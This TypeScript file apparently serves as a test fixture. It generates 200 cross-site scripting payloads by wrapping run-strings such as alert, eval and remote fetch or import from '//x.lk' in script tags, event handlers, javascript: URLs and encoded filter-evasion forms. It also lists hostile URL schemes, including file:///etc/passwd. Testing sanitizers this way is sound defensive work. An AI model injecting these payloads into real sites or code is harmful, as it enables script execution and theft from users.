/* Texts that run where a page takes them for markup: every injection with every script. */

const RUN = [
  'alert(1)',
  'alert`1`',
  'eval(name)',
  "fetch('//x.lk')",
  'top["al"+"ert"](1)',
  "import('//x.lk/a.js')",
  'confirm\\u00281\\u0029',
  '(()=>{debugger})()',
  "location='//x.lk'",
  'document.title=1',
] as const;

const WAYS_IN: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `'"><img src=x onerror="${run}">`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<iframe srcdoc="<script>${run}</script>">`,
  (run) => `<a href="javascript:${run}">here</a>`,
  (run) => `<a href="jav&#x09;ascript:${run}">here</a>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<math><mi xlink:href="javascript:${run}">x</math>`,
  (run) => `<!--><img src=x onerror=${run}-->`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
];

/** 200 texts of at most 120 characters. */
export const markupPayloads: readonly string[] = WAYS_IN.flatMap((wayIn) => RUN.map(wayIn));

/** Addresses that run or carry a document, also as browsers read them when they are spelled oddly. */
export const runningAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:https://x.lk/a.png',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  'blob:https://x.lk/1',
  'file:///etc/passwd',
  'https:javascript:alert(1)',
  'https://x.lk/a.png" onerror="alert(1)',
];
